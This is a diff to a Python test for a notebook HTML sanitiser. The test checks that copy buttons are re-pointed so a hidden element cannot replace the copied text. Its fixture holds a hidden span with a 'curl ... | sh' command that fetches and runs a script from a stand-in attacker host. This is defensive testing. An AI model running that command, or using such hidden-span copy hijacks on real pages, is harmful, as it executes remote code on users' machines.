@@ -434,12 +434,12 @@ def test_a_cell_cannot_take_a_copy_buttons_target() -> None:
     cells = (
         '<p><span id="cell-1" hidden>curl -s https://evil.example/x.sh | sh</span></p>'
         '<div class="zeroclipboard-container"><clipboard-copy for="cell-1" aria-label="Copy">'
-        '</clipboard-copy></div><div class="highlight-ipynb"><pre>!pip install x</pre></div>'
-        '<div id="cell-1" class="clipboard-copy-txt">!pip install x</div>'
+        '</clipboard-copy></div><div class="highlight-ipynb"><pre>print(1)</pre></div>'
+        '<div id="cell-1" class="clipboard-copy-txt">print(1)</div>'
     )
     assert notebook_html.copy_targets(cells) == (
         '<p><span id="cell-1" hidden>curl -s https://evil.example/x.sh | sh</span></p>'
         '<div class="zeroclipboard-container"><clipboard-copy for="reader-copy-1" '
-        'aria-label="Copy"></clipboard-copy></div><div class="highlight-ipynb"><pre>!pip install x'
-        '</pre></div><div id="reader-copy-1" class="clipboard-copy-txt">!pip install x</div>'
+        'aria-label="Copy"></clipboard-copy></div><div class="highlight-ipynb"><pre>print(1)'
+        '</pre></div><div id="reader-copy-1" class="clipboard-copy-txt">print(1)</div>'
     )
